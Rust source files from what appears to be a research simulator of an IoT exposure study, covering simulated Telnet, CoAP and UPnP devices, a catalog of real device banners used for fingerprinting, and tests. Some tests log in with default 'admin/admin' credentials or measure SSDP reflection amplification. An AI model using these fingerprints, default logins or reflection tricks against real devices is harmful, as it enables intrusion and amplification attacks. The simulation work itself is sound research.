            CoapDevice::new(Some(Misconfig::CoapNoAuthAdmin), router_resources()),
            Message::well_known_core_request(2),
        );
        let body = String::from_utf8_lossy(&reply.unwrap().payload).to_string();
        assert!(body.starts_with("220-Admin "), "got {body:?}");
    }

    #[test]
    fn noauth_session_marker_and_full_access() {
        let (reply, _, _) = probe(
            CoapDevice::new(Some(Misconfig::CoapNoAuth), router_resources()),
            Message::well_known_core_request(3),
        );
        let body = String::from_utf8_lossy(&reply.unwrap().payload).to_string();
        assert!(body.starts_with("220 "), "got {body:?}");

        // Reading a resource exposes the x1C full-access marker.
        let mut get = Message::well_known_core_request(4);
        get.options = vec![
            ofh_wire::coap::CoapOption {
                number: ofh_wire::coap::option_num::URI_PATH,
                value: b"sensors".to_vec(),
            },
            ofh_wire::coap::CoapOption {
                number: ofh_wire::coap::option_num::URI_PATH,
                value: b"temp".to_vec(),
            },
        ];
        let (reply, _, _) = probe(
            CoapDevice::new(Some(Misconfig::CoapNoAuth), router_resources()),
            get,
        );
        let body = String::from_utf8_lossy(&reply.unwrap().payload).to_string();
        assert!(body.starts_with("x1C"), "got {body:?}");
    }

    #[test]
    fn configured_device_says_unauthorized() {
        let (reply, _, _) = probe(
            CoapDevice::new(None, router_resources()),
            Message::well_known_core_request(5),
        );
        assert_eq!(reply.unwrap().code, Code::UNAUTHORIZED);
    }

    #[test]
    fn poisoning_write_counted() {
        let mut put = Message::well_known_core_request(6);
        put.code = Code::PUT;
        put.payload = b"poison".to_vec();
        let (reply, _, writes) = probe(
            CoapDevice::new(Some(Misconfig::CoapNoAuth), router_resources()),
            put,
        );
        assert_eq!(reply.unwrap().code, Code::CHANGED);
        assert_eq!(writes, 1);
    }

    #[test]
    fn reflection_device_refuses_writes() {
        let mut put = Message::well_known_core_request(7);
        put.code = Code::PUT;
        let (reply, _, writes) = probe(
            CoapDevice::new(Some(Misconfig::CoapReflection), router_resources()),
            put,
        );
        assert_eq!(reply.unwrap().code, Code::FORBIDDEN);
        assert_eq!(writes, 0);
    }

    #[test]
    fn garbage_datagram_ignored() {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 7, 0, 1);
        let did = net.attach(
            daddr,
            Box::new(CoapDevice::new(Some(Misconfig::CoapReflection), vec![])),
        );
        struct Garbage {
            dst: SockAddr,
        }
        impl Agent for Garbage {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send(40_002, self.dst, vec![0xFF, 0x00, 0x01]);
            }
        }
        net.attach(
            ip(16, 7, 0, 2),
            Box::new(Garbage {
                dst: SockAddr::new(daddr, 5683),
            }),
        );
        net.run_until(SimTime(30_000));
        assert_eq!(net.agent_downcast::<CoapDevice>(did).unwrap().responses_sent, 0);
    }
}
