//! Telnet device behaviour.
//!
//! Three postures, matching the Table 2 indicators:
//!
//! * **No auth, root console** (`TelnetNoAuthRoot`): connecting immediately
//!   yields `root@<host>:~$` — the paper's strongest misconfiguration.
//! * **No auth, console** (`TelnetNoAuth`): immediate `$ ` prompt.
//! * **Configured**: a `login:` prompt; a username/password exchange follows,
//!   accepted only if it matches the device's (possibly default) credentials.
//!   Devices with Table 12 default credentials are what brute-forcing bots
//!   actually break into.

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::telnet::{negotiate, option, Verb};

use crate::misconfig::Misconfig;

/// Login-exchange state for one connection.
#[derive(Debug, Clone, PartialEq, Eq)]
enum LoginState {
    AwaitingUser,
    AwaitingPassword { username: String },
    LoggedIn,
}

/// A simulated Telnet-exposed IoT device.
pub struct TelnetDevice {
    /// The device's identifying banner line (Table 11), e.g.
    /// `PK5001Z login:` — sent before the prompt.
    pub banner: String,
    /// Security posture; `None` = authenticated access only.
    pub misconfig: Option<Misconfig>,
    /// Credentials the login accepts (default credentials on weak devices).
    pub credentials: Option<(String, String)>,
    /// Listening port (23, or 2323 for the alternate-port population that
    /// explains the ZMap-vs-Sonar delta in Table 4).
    pub port: u16,
    /// Hostname used in shell prompts.
    pub hostname: String,
    /// Ground truth: successful logins observed (bot infections land here).
    pub successful_logins: u64,
    /// Shell commands received after login (dropper activity).
    pub commands_seen: Vec<String>,
    sessions: std::collections::HashMap<ConnToken, LoginState>,
}

impl TelnetDevice {
    pub fn new(banner: impl Into<String>, misconfig: Option<Misconfig>, port: u16) -> Self {
        TelnetDevice {
            banner: banner.into(),
            misconfig,
            credentials: None,
            port,
            hostname: "device".into(),
            successful_logins: 0,
            commands_seen: Vec::new(),
            sessions: std::collections::HashMap::new(),
        }
    }

    pub fn with_credentials(mut self, user: &str, pass: &str) -> Self {
        self.credentials = Some((user.to_string(), pass.to_string()));
        self
    }

    fn prompt(&self) -> String {
        match self.misconfig {
            Some(Misconfig::TelnetNoAuthRoot) => format!("root@{}:~$ ", self.hostname),
            Some(Misconfig::TelnetNoAuth) => "$ ".to_string(),
            _ => "login: ".to_string(),
        }
    }

    fn greeting(&self) -> Vec<u8> {
        let mut g = Vec::new();
        // Typical embedded telnetd negotiation prefix.
        g.extend_from_slice(&negotiate(Verb::Will, option::ECHO));
        g.extend_from_slice(&negotiate(Verb::Will, option::SUPPRESS_GO_AHEAD));
        g.extend_from_slice(self.banner.as_bytes());
        g.extend_from_slice(b"\r\n");
        g.extend_from_slice(self.prompt().as_bytes());
        g
    }
}

impl Agent for TelnetDevice {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != self.port {
            return TcpDecision::Refuse;
        }
        let state = if self.misconfig.is_some() && self.misconfig != Some(Misconfig::TelnetNoAuth) {
            LoginState::LoggedIn
        } else if matches!(self.misconfig, Some(Misconfig::TelnetNoAuth)) {
            LoginState::LoggedIn
        } else {
            LoginState::AwaitingUser
        };
        self.sessions.insert(conn, state);
        TcpDecision::accept_with(self.greeting())
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let text = String::from_utf8_lossy(&ofh_wire::telnet::visible_text(data))
            .trim()
            .to_string();
        let Some(state) = self.sessions.get(&conn).cloned() else {
            return;
        };
        match state {
            LoginState::LoggedIn => {
                if text.is_empty() {
                    ctx.tcp_send(conn, self.prompt());
                } else {
                    // Real shells react to input (here: a busybox-style
                    // error echoing the command). This response *deviation*
                    // is what separates devices from static-banner honeypots
                    // during active fingerprinting (Vetterl et al.).
                    let reply = format!("sh: {}: not found\r\n{}", text, self.prompt());
                    self.commands_seen.push(text);
                    ctx.tcp_send(conn, reply);
                }
            }
            LoginState::AwaitingUser => {
                self.sessions
                    .insert(conn, LoginState::AwaitingPassword { username: text });
                ctx.tcp_send(conn, "Password: ");
            }
            LoginState::AwaitingPassword { username } => {
                let ok = self
                    .credentials
                    .as_ref()
                    .is_some_and(|(u, p)| *u == username && *p == text);
                if ok {
                    self.successful_logins += 1;
                    self.sessions.insert(conn, LoginState::LoggedIn);
                    ctx.tcp_send(conn, format!("Welcome\r\n{}@{}:~$ ", username, self.hostname));
                } else {
                    self.sessions.insert(conn, LoginState::AwaitingUser);
                    ctx.tcp_send(conn, "Login incorrect\r\nlogin: ");
                }
            }
        }
    }

    fn on_tcp_closed(&mut self, _ctx: &mut NetCtx<'_>, conn: ConnToken) {
        self.sessions.remove(&conn);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    /// Test client that performs a scripted exchange and records output.
    struct Script {
        dst: SockAddr,
        sends: Vec<Vec<u8>>,
        received: Vec<u8>,
        next: usize,
    }

    impl Script {
        fn new(dst: SockAddr, sends: Vec<Vec<u8>>) -> Self {
            Script {
                dst,
                sends,
                received: Vec::new(),
                next: 0,
            }
        }
    }

    impl Agent for Script {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
            self.received.extend_from_slice(data);
            if self.next < self.sends.len() {
                let msg = self.sends[self.next].clone();
                self.next += 1;
                ctx.tcp_send(conn, msg);
            }
        }
    }

    fn run(device: TelnetDevice, sends: Vec<Vec<u8>>) -> (TelnetDevice, Vec<u8>) {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 5, 0, 1);
        let did = net.attach(daddr, Box::new(device));
        let cid = net.attach(
            ip(16, 5, 0, 2),
            Box::new(Script::new(SockAddr::new(daddr, 23), sends)),
        );
        net.run_until(SimTime(120_000));
        let received = net.agent_downcast::<Script>(cid).unwrap().received.clone();
        // Move the device out by re-downcasting (clone the interesting bits).
        let d = net.agent_downcast_mut::<TelnetDevice>(did).unwrap();
        let device = TelnetDevice {
            banner: d.banner.clone(),
            misconfig: d.misconfig,
            credentials: d.credentials.clone(),
            port: d.port,
            hostname: d.hostname.clone(),
            successful_logins: d.successful_logins,
            commands_seen: d.commands_seen.clone(),
            sessions: Default::default(),
        };
        (device, received)
    }

    #[test]
    fn root_console_banner_matches_table2() {
        let dev = TelnetDevice::new("PK5001Z login:", Some(Misconfig::TelnetNoAuthRoot), 23);
        let (_, received) = run(dev, vec![]);
        let text = String::from_utf8_lossy(&ofh_wire::telnet::visible_text(&received)).to_string();
        assert!(text.contains("PK5001Z login:"));
        assert!(text.contains("root@device:~$"), "got {text:?}");
    }

    #[test]
    fn noauth_console_shows_dollar_prompt() {
        let dev = TelnetDevice::new("BusyBox v1.19", Some(Misconfig::TelnetNoAuth), 23);
        let (_, received) = run(dev, vec![]);
        let text = String::from_utf8_lossy(&ofh_wire::telnet::visible_text(&received)).to_string();
        assert!(text.ends_with("$ "), "got {text:?}");
        assert!(!text.contains("root@"));
    }

    #[test]
    fn configured_device_requires_login() {
        let dev = TelnetDevice::new("192.168.0.64 login:", None, 23)
            .with_credentials("admin", "admin");
        let (dev, received) =
            run(dev, vec![b"admin".to_vec(), b"admin".to_vec(), b"ls".to_vec()]);
        let text = String::from_utf8_lossy(&ofh_wire::telnet::visible_text(&received)).to_string();
        assert!(text.contains("Password: "));
        assert!(text.contains("Welcome"));
        assert_eq!(dev.successful_logins, 1);
        assert_eq!(dev.commands_seen, vec!["ls".to_string()]);
    }

    #[test]
    fn wrong_credentials_rejected() {
        let dev = TelnetDevice::new("login:", None, 23).with_credentials("admin", "secret");
        let (dev, received) = run(dev, vec![b"admin".to_vec(), b"admin".to_vec()]);
        let text = String::from_utf8_lossy(&ofh_wire::telnet::visible_text(&received)).to_string();
        assert!(text.contains("Login incorrect"));
        assert_eq!(dev.successful_logins, 0);
    }

    #[test]
    fn other_ports_refused() {
        struct Probe {
            dst: SockAddr,
            refused: bool,
        }
        impl Agent for Probe {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.tcp_connect(self.dst);
            }
            fn on_tcp_refused(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken) {
                self.refused = true;
            }
        }
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 5, 0, 1);
        net.attach(
            daddr,
            Box::new(TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 23)),
        );
        let pid = net.attach(
            ip(16, 5, 0, 2),
            Box::new(Probe {
                dst: SockAddr::new(daddr, 8080),
                refused: false,
            }),
        );
        net.run_until(SimTime(30_000));
        assert!(net.agent_downcast::<Probe>(pid).unwrap().refused);
    }

    #[test]
    fn alternate_port_2323_served() {
        let mut dev = TelnetDevice::new("x", Some(Misconfig::TelnetNoAuth), 2323);
        dev.hostname = "cam".into();
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 5, 0, 1);
        net.attach(daddr, Box::new(dev));
        let cid = net.attach(
            ip(16, 5, 0, 2),
            Box::new(Script::new(SockAddr::new(daddr, 2323), vec![])),
        );
        net.run_until(SimTime(30_000));
        assert!(!net.agent_downcast::<Script>(cid).unwrap().received.is_empty());
    }
}
