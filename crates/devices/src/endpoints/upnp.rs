//! UPnP/SSDP device behaviour.
//!
//! A misconfigured stack (`UpnpReflection`) answers any `ssdp:discover` with
//! a root-device disclosure — the Table 3 indicator and the largest
//! misconfiguration class of Table 5 — followed by the device-description
//! block the ZTag engine identifies models from (`Friendly Name:`,
//! `Model Name:`, Appendix Table 11). An exposed-but-configured stack
//! answers with a bare service ST (no root device, no description): the port
//! is provably open, but nothing is disclosed.
//!
//! *Substitution note* (documented in DESIGN.md): real UPnP serves the
//! description XML over HTTP at `LOCATION`; we append the description text
//! to the SSDP response so the single UDP exchange carries the same
//! information content the paper's pipeline extracted.

use ofh_net::Payload;
use ofh_net::{Agent, NetCtx, SockAddr};
use ofh_wire::ports;
use ofh_wire::ssdp::{DeviceDescription, SsdpMessage};

use crate::misconfig::Misconfig;

/// A simulated SSDP/UPnP-speaking IoT device.
pub struct UpnpDevice {
    pub misconfig: Option<Misconfig>,
    /// The `SERVER:` header value (e.g. `Linux/2.x UPnP/1.0 Avtech/1.0`).
    pub server: String,
    /// Description document (friendly name / model).
    pub description: DeviceDescription,
    /// USN uuid.
    pub uuid: String,
    /// Ground truth: discovery responses emitted (reflection volume).
    pub responses_sent: u64,
}

impl UpnpDevice {
    pub fn new(
        misconfig: Option<Misconfig>,
        server: impl Into<String>,
        description: DeviceDescription,
    ) -> Self {
        UpnpDevice {
            misconfig,
            server: server.into(),
            description,
            uuid: "5a34308c-1a2c-4546-ac5d-7663dd01dca1".into(),
            responses_sent: 0,
        }
    }
}

impl Agent for UpnpDevice {
    fn on_udp(&mut self, ctx: &mut NetCtx<'_>, local_port: u16, peer: SockAddr, payload: &Payload) {
        if local_port != ports::SSDP {
            return;
        }
        let Ok(text) = std::str::from_utf8(payload) else {
            return;
        };
        let Ok(msg) = SsdpMessage::parse(text) else {
            return;
        };
        if !msg.is_msearch() {
            return;
        }
        let reply = match self.misconfig {
            Some(Misconfig::UpnpReflection) => {
                let resp = SsdpMessage::discovery_response(
                    &self.server,
                    &self.uuid,
                    "http://192.168.0.1:16537/rootDesc.xml",
                );
                // Append the description block (see module docs).
                format!("{}{}", resp.render(), self.description.render())
            }
            _ => {
                // Configured: advertise a single service, disclose nothing.
                let resp = SsdpMessage {
                    start_line: "HTTP/1.1 200 OK".into(),
                    headers: vec![
                        ("CACHE-CONTROL".into(), "max-age=120".into()),
                        ("ST".into(), "urn:schemas-upnp-org:service:ConnectionManager:1".into()),
                        ("EXT".into(), String::new()),
                    ],
                };
                resp.render()
            }
        };
        self.responses_sent += 1;
        ctx.udp_send(local_port, peer, reply.into_bytes());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};
    use ofh_wire::ssdp::msearch_all;

    struct Discoverer {
        dst: SockAddr,
        reply: Option<String>,
    }

    impl Agent for Discoverer {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.udp_send(40_003, self.dst, msearch_all().into_bytes());
        }
        fn on_udp(&mut self, _c: &mut NetCtx<'_>, _p: u16, _peer: SockAddr, payload: &Payload) {
            self.reply = Some(String::from_utf8_lossy(payload).into_owned());
        }
    }

    fn discover(device: UpnpDevice) -> Option<String> {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 8, 0, 1);
        net.attach(daddr, Box::new(device));
        let pid = net.attach(
            ip(16, 8, 0, 2),
            Box::new(Discoverer {
                dst: SockAddr::new(daddr, 1900),
                reply: None,
            }),
        );
        net.run_until(SimTime(30_000));
        net.agent_downcast::<Discoverer>(pid).unwrap().reply.clone()
    }

    fn hue() -> DeviceDescription {
        DeviceDescription {
            friendly_name: "Philips hue".into(),
            manufacturer: "Signify".into(),
            model_name: "Philips hue bridge 2015".into(),
            model_description: String::new(),
            model_number: "BSB002".into(),
        }
    }

    #[test]
    fn reflector_discloses_rootdevice_and_model() {
        let reply = discover(UpnpDevice::new(
            Some(Misconfig::UpnpReflection),
            "Linux/3.14 UPnP/1.0 IpBridge/1.16.0",
            hue(),
        ))
        .unwrap();
        assert!(reply.contains("upnp:rootdevice"));
        assert!(reply.contains("Model Name: Philips hue bridge 2015"));
        assert!(reply.contains("SERVER: Linux/3.14 UPnP/1.0 IpBridge/1.16.0"));
        // Amplification: response ≫ the probe.
        assert!(reply.len() > msearch_all().len() * 2);
    }

    #[test]
    fn configured_device_discloses_nothing() {
        let reply = discover(UpnpDevice::new(None, "SecureStack/1.0", hue())).unwrap();
        assert!(!reply.contains("rootdevice"));
        assert!(!reply.contains("Model Name"));
        assert!(reply.contains("200 OK")); // still provably exposed
    }

    #[test]
    fn non_msearch_ignored() {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 8, 0, 1);
        let did = net.attach(
            daddr,
            Box::new(UpnpDevice::new(Some(Misconfig::UpnpReflection), "X", hue())),
        );
        struct Notifier {
            dst: SockAddr,
        }
        impl Agent for Notifier {
            fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
                ctx.udp_send(40_004, self.dst, b"NOTIFY * HTTP/1.1\r\n\r\n".to_vec());
                ctx.udp_send(40_004, self.dst, vec![0xFF, 0xFE]);
            }
        }
        net.attach(ip(16, 8, 0, 2), Box::new(Notifier { dst: SockAddr::new(daddr, 1900) }));
        net.run_until(SimTime(30_000));
        assert_eq!(net.agent_downcast::<UpnpDevice>(did).unwrap().responses_sent, 0);
    }
}
