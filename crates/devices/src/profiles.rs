//! The device-profile catalog — Appendix Table 11 of the paper.
//!
//! Each profile carries the banner or response text the paper used to
//! identify the device type, plus which protocol that identifier appears on.
//! The population builder instantiates devices from these profiles and the
//! ZTag-style tagger in `ofh-scan` identifies them back from live responses;
//! Table 11 and Fig. 2 are regenerated from that loop.

use ofh_wire::Protocol;
use serde::Serialize;

use crate::types::DeviceType;

/// A device profile: make/model plus its identifying network behaviour.
///
/// Serialize-only: the strings are `&'static str` into Table 11's verbatim
/// entries, which cannot be deserialized from owned data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct DeviceProfile {
    /// Make/model as Table 11 names it.
    pub name: &'static str,
    /// The protocol whose response carries the identifier.
    pub protocol: Protocol,
    pub device_type: DeviceType,
    /// The identifying banner/response fragment (Table 11 rightmost column).
    pub identifier: &'static str,
    /// Relative placement weight within (protocol, device_type): popular
    /// consumer devices dominate the population.
    pub weight: u32,
}

macro_rules! profile {
    ($name:expr, $proto:ident, $ty:ident, $id:expr, $w:expr) => {
        DeviceProfile {
            name: $name,
            protocol: Protocol::$proto,
            device_type: DeviceType::$ty,
            identifier: $id,
            weight: $w,
        }
    };
}

/// The catalog, transcribed from Appendix Table 11 (plus the IP phone class
/// §5.3 mentions among attacking devices).
pub const PROFILES: &[DeviceProfile] = &[
    // Cameras.
    profile!("HiKVision Camera", Telnet, Camera, "192.168.0.64 login:", 30),
    profile!("Polycom HDX", Telnet, Camera, "Welcome to ViewStation", 6),
    profile!("D-Link DCS-6620", Telnet, Camera, "Welcome to DCS-6620", 5),
    profile!("D-Link DCS-5220", Telnet, Camera, "Network-Camera login:", 8),
    profile!("Avtech AVN801", Upnp, Camera, "Server: Linux/2.x UPnP/1.0 Avtech/1.0", 14),
    profile!("Panasonic BB-HCM581", Upnp, Camera, "Friendly Name: Network Camera BB-HCM581", 7),
    profile!("Anbash NC336FG", Upnp, Camera, "Model Name: NC336FG", 4),
    profile!("Beward N100", Upnp, Camera, "Friendly Name: N100 H.264 IP Camera - 004B1000E3E2", 5),
    profile!("Io Data TS-WLC2", Upnp, Camera, "Model Name: TS-WLC2", 4),
    profile!("Io Data TS-WPTCAM", Upnp, Camera, "Model Name: TS-WPTCAM", 4),
    profile!("Io Data TS-WLCAM", Upnp, Camera, "Model Name: TS-WLCAM", 3),
    profile!("Io Data TS-WLCE", Upnp, Camera, "Model Name: TS-WLCE", 3),
    profile!("G-Cam EFD-4430", Upnp, Camera, "Friendly Name: G-Cam/EFD-4430", 3),
    profile!("Seyeon Tech FW7511-TVM", Upnp, Camera, "Model Name: FW7511-TVM", 3),
    // DSL modems.
    profile!("ZyXEL PK5001Z", Telnet, DslModem, "PK5001Z login:", 20),
    profile!("ZTE ZXHN H108N", Telnet, DslModem, "Welcome to the world of CLI", 10),
    profile!("Technicolor modem", Telnet, DslModem, "TG234 login:", 8),
    profile!("ZTE ZXV10", Telnet, DslModem, "F670L Login", 8),
    profile!("Datacom DM991", Telnet, DslModem, "DM991CR - G.SHDSL Modem Router", 4),
    profile!("TP-Link TD-W8960N", Telnet, DslModem, "TD-W8960N 6.0 DSL Modem", 9),
    profile!("Cisco C11-4P", Telnet, DslModem, "MODEM : C111-4P", 4),
    profile!("TP-Link TD-W8968", Telnet, DslModem, "TD-W8968 4.0 DSL Modem Router", 7),
    // Routers.
    profile!("BelAir 100N", Telnet, Router, "BelAir100N - BelAir Backhaul and Access Wireless Router", 5),
    profile!("Tenda Wireless Router", Upnp, Router, "Manufacturer: Tenda", 16),
    profile!("Totolink N150", Upnp, Router, "Friendly Name: TOTOLINK N150RA", 7),
    profile!("ZTE H108N", Upnp, Router, "Model Name: H108N", 10),
    profile!("OBSERVA BHS_RTA 1.0.0", Upnp, Router, "Model Name: BHS_RTA", 5),
    profile!("DASAN H660GM", Upnp, Router, "Model Name: H660GM", 6),
    profile!("Huawei HG532e", Upnp, Router, "Model Name: HG532e", 14),
    profile!("ASUSTeK RT-AC53", Upnp, Router, "Friendly Name: RT-AC53", 8),
    profile!("NDM", Coap, Router, "/ndm/login", 10),
    profile!("QLink", Coap, Router, "title: Qlink-ACK Resource", 6),
    // Smart home.
    profile!("Signify Philips hue bridge", Upnp, SmartHome, "Model Name: Philips hue bridge 2015", 12),
    profile!("EQ3 HomeMatic", Upnp, SmartHome, "Model Name: HomeMatic Central", 5),
    profile!("Hyperion 2.0.0", Upnp, SmartHome, "Model Description: Hyperion Open Source Ambient Light", 4),
    profile!("Home Assistant (Telnet)", Telnet, SmartHome, "Home Assistant: Installation Type: Home Assistant OS", 6),
    profile!("Home Assistant (MQTT)", Mqtt, SmartHome, "homeassistant/light/", 14),
    // TV receivers.
    profile!("Emby", Upnp, TvReceiver, "Friendly Name: Emby - DS720plus", 5),
    profile!("Dedicated Micros Digital Sprite 2", Telnet, TvReceiver, "Welcome to the DS2 command line processor", 4),
    profile!("Roku", Upnp, TvReceiver, "Server: Roku UPnP/1.0 MiniUPnPd/1.4", 9),
    // Access points / NAS / speakers.
    profile!("Realtek RTL8671", Upnp, AccessPoint, "Model Name: RTL8671", 7),
    profile!("Synology DS918+", Upnp, Nas, "Friendly Name: DiskStation (DS918+)", 6),
    profile!("Sonos ZP100", Upnp, SmartSpeaker, "Model Number: ZP120", 6),
    // 3D printer / HVAC / industrial.
    profile!("Octoprint", Mqtt, Printer3d, "octoPrint/temperature/bed", 6),
    profile!("Gozmart", Mqtt, Hvac, "gozmart/sonoff/CC50E3C943CC110511/app", 5),
    profile!("Advantech", Mqtt, Hvac, "Advantech/", 5),
    profile!("Emerson", Telnet, RemoteDisplayUnit, "Emerson Network Power Co., Ltd.", 4),
    profile!("Trimble SPS855", Upnp, RemoteDisplayUnit, "Friendly Name: SPS855, 6013R31531: Trimble", 3),
    // IP phones (attack-source device class of §5.3).
    profile!("Generic SIP Phone", Upnp, IpPhone, "Model Name: SIP-T21P", 5),
];

/// Profiles whose identifier appears on `protocol`.
pub fn profiles_for(protocol: Protocol) -> Vec<&'static DeviceProfile> {
    PROFILES.iter().filter(|p| p.protocol == protocol).collect()
}

/// Find the profile identified by a response fragment.
pub fn identify(protocol: Protocol, response: &str) -> Option<&'static DeviceProfile> {
    PROFILES
        .iter()
        .find(|p| p.protocol == protocol && response.contains(p.identifier))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalog_covers_table11_protocols() {
        assert!(!profiles_for(Protocol::Telnet).is_empty());
        assert!(!profiles_for(Protocol::Upnp).is_empty());
        assert!(!profiles_for(Protocol::Mqtt).is_empty());
        assert!(!profiles_for(Protocol::Coap).is_empty());
        // The paper: "the response received from XMPP and AMQP services were
        // not sufficient to label the target as an IoT device".
        assert!(profiles_for(Protocol::Xmpp).is_empty());
        assert!(profiles_for(Protocol::Amqp).is_empty());
    }

    #[test]
    fn identifiers_are_unique_per_protocol() {
        for (i, a) in PROFILES.iter().enumerate() {
            for b in &PROFILES[i + 1..] {
                if a.protocol == b.protocol {
                    assert!(
                        !a.identifier.contains(b.identifier)
                            && !b.identifier.contains(a.identifier),
                        "{} vs {} identifiers collide",
                        a.name,
                        b.name
                    );
                }
            }
        }
    }

    #[test]
    fn every_profile_identifies_itself() {
        for p in PROFILES {
            let got = identify(p.protocol, &format!("junk {} junk", p.identifier));
            assert_eq!(got.map(|g| g.name), Some(p.name));
        }
    }

    #[test]
    fn hikvision_detected_from_banner() {
        // The paper's §4.1.2 worked example.
        let p = identify(Protocol::Telnet, "192.168.0.64 login:").unwrap();
        assert_eq!(p.name, "HiKVision Camera");
        assert_eq!(p.device_type, DeviceType::Camera);
    }

    #[test]
    fn weights_positive() {
        assert!(PROFILES.iter().all(|p| p.weight > 0));
    }
}
