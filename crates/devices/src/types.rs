//! Device-type taxonomy (the categories of Fig. 2 / Appendix Table 11).

use serde::{Deserialize, Serialize};

/// IoT device categories identified from banners and responses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum DeviceType {
    Camera,
    DslModem,
    Router,
    SmartHome,
    TvReceiver,
    AccessPoint,
    Nas,
    SmartSpeaker,
    Printer3d,
    Hvac,
    RemoteDisplayUnit,
    IpPhone,
}

impl DeviceType {
    pub const ALL: [DeviceType; 12] = [
        DeviceType::Camera,
        DeviceType::DslModem,
        DeviceType::Router,
        DeviceType::SmartHome,
        DeviceType::TvReceiver,
        DeviceType::AccessPoint,
        DeviceType::Nas,
        DeviceType::SmartSpeaker,
        DeviceType::Printer3d,
        DeviceType::Hvac,
        DeviceType::RemoteDisplayUnit,
        DeviceType::IpPhone,
    ];

    pub const fn name(self) -> &'static str {
        match self {
            DeviceType::Camera => "Camera",
            DeviceType::DslModem => "DSL Modem",
            DeviceType::Router => "Router",
            DeviceType::SmartHome => "Smart Home",
            DeviceType::TvReceiver => "TV Receiver",
            DeviceType::AccessPoint => "Access Point",
            DeviceType::Nas => "NAS",
            DeviceType::SmartSpeaker => "Smart Speaker",
            DeviceType::Printer3d => "3D Printer",
            DeviceType::Hvac => "HVAC",
            DeviceType::RemoteDisplayUnit => "Remote Display Unit",
            DeviceType::IpPhone => "IP Phone",
        }
    }
}

impl std::fmt::Display for DeviceType {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_unique() {
        let mut names: Vec<&str> = DeviceType::ALL.iter().map(|t| t.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), DeviceType::ALL.len());
    }
}
