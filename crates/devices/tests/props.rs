//! Property tests for population synthesis: the invariants must hold over
//! arbitrary seeds and scales, not just the seeds the unit tests pin.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use ofh_devices::population::{paper_exposed, PopulationBuilder, PopulationSpec};
use ofh_devices::{Misconfig, Universe};
use ofh_wire::Protocol;
use proptest::prelude::*;

fn spec(seed: u64, scale_pow: u32) -> PopulationSpec {
    PopulationSpec {
        universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 18),
        scale: 1u64 << scale_pow,
        seed,
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    /// Addresses are unique, inside the population region, and the geo
    /// database agrees with the assigned countries — for any seed/scale.
    #[test]
    fn population_invariants(seed in any::<u64>(), scale_pow in 12u32..16) {
        let s = spec(seed, scale_pow);
        let pop = PopulationBuilder::new(s).build();
        let (pop_base, pop_len) = s.universe.population_space();
        let base = u32::from(pop_base);
        let mut seen: BTreeSet<Ipv4Addr> = BTreeSet::new();
        for r in &pop.records {
            prop_assert!(seen.insert(r.addr), "duplicate address {}", r.addr);
            let v = u32::from(r.addr);
            prop_assert!(v >= base && ((v - base) as u64) < pop_len);
            prop_assert_eq!(pop.geo.country_of(r.addr), r.country);
        }
    }

    /// Scaled marginals: per-protocol exposed counts and per-class
    /// misconfigured counts match the rounding rule for any seed.
    #[test]
    fn marginals_hold(seed in any::<u64>()) {
        let s = spec(seed, 13);
        let pop = PopulationBuilder::new(s).build();
        for proto in Protocol::SCANNED {
            let expect = s.scaled(paper_exposed(proto));
            let got = pop.records.iter().filter(|r| r.protocol == proto).count() as u64;
            prop_assert_eq!(got, expect);
        }
        for class in Misconfig::ALL {
            let expect = s.scaled(class.paper_count());
            let got = pop.records.iter().filter(|r| r.misconfig == Some(class)).count() as u64;
            prop_assert_eq!(got, expect);
        }
    }

    /// Misconfiguration classes always sit on their own protocol, and
    /// default credentials only on configured Telnet devices.
    #[test]
    fn record_consistency(seed in any::<u64>()) {
        let pop = PopulationBuilder::new(spec(seed, 13)).build();
        for r in &pop.records {
            if let Some(m) = r.misconfig {
                prop_assert_eq!(m.protocol(), r.protocol);
            }
            if r.default_creds.is_some() {
                prop_assert_eq!(r.protocol, Protocol::Telnet);
                prop_assert!(r.misconfig.is_none());
            }
            if r.port == 2323 {
                prop_assert_eq!(r.protocol, Protocol::Telnet);
            }
        }
    }
}
