//! Raw attack-event records.
//!
//! Honeypots log *observations*, not verdicts: a login attempt with its
//! credentials, a shell command, a dropped payload, a topic publish. The
//! classification into scanning-service / malicious / unknown traffic
//! (Table 7) and into attack types (Figs. 4/7) happens downstream in
//! `ofh-analysis`, exactly as the paper classifies its pcap/log data after
//! the fact.

